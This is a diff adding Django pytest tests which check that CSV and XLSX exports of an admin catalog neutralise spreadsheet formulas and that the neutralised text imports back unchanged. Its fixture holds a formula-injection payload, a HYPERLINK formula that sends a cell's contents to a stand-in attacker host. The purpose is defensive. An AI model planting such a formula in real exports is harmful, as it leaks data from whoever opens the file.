@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Permission
 from import_export.formats.base_formats import CSV, XLSX
@@ -220,3 +221,63 @@ def test_import_and_export_need_the_models_permissions(client, django_user_model
 
     assert client.get("/admin/usecases/usecase/import/").status_code == 403
     assert client.get("/admin/usecases/usecase/export/").status_code == 200
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+
+
+@pytest.fixture
+def formula_statement(loaded_catalog) -> ProblemStatement:
+    """What "Create draft use case from this" can carry from an anonymous query."""
+    use_case = UseCase.objects.order_by("slug").first()
+    return ProblemStatement.objects.create(use_case=use_case, language="en", text=FORMULA)
+
+
+def admin_export(admin_client, file_format: int) -> bytes:
+    fields = {
+        f"problemstatementresource_{name}": "on" for name in ProblemStatementResource().fields
+    }
+    response = admin_client.post(
+        "/admin/usecases/problemstatement/export/", {"format": file_format, **fields}
+    )
+    assert response.status_code == 200
+    assert response.get("Content-Disposition", "").startswith("attachment"), response.content
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_a_formula_in_a_catalog_text_exports_to_csv_as_text(admin_client, formula_statement):
+    rows = csv.DictReader(io.StringIO(admin_export(admin_client, 0).decode("utf-8")))
+
+    texts = [row["text"] for row in rows]
+    assert f"'{FORMULA}" in texts
+    assert not [text for text in texts if text[:1] in ("=", "+", "-", "@")]
+
+
+def test_a_formula_in_a_catalog_text_exports_to_xlsx_as_a_text_cell(
+    admin_client, formula_statement
+):
+    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(admin_client, 1))).active
+
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert f"'{FORMULA}" in [cell.value for cell in cells]
+
+
+@pytest.mark.parametrize("file_format", [CSV, XLSX], ids=["csv", "xlsx"])
+def test_neutralised_texts_import_back_unchanged(formula_statement, admin_user, file_format):
+    use_case = formula_statement.use_case
+    use_case.title_en = "'=a title that already starts with an apostrophe"
+    use_case.summary_en = "-20 % scrap in six months"
+    use_case.save()
+
+    for resource_class in (ProblemStatementResource, UseCaseResource):
+        result = imported(
+            resource_class, file_format(), exported(resource_class, file_format()), admin_user
+        )
+        assert result.totals["skip"] == resource_class._meta.model.objects.count()
+        assert result.totals["new"] == result.totals["update"] == 0
+
+    use_case.refresh_from_db()
+    assert use_case.title_en == "'=a title that already starts with an apostrophe"
+    assert use_case.summary_en == "-20 % scrap in six months"
+    assert ProblemStatement.objects.filter(text=FORMULA).count() == 1
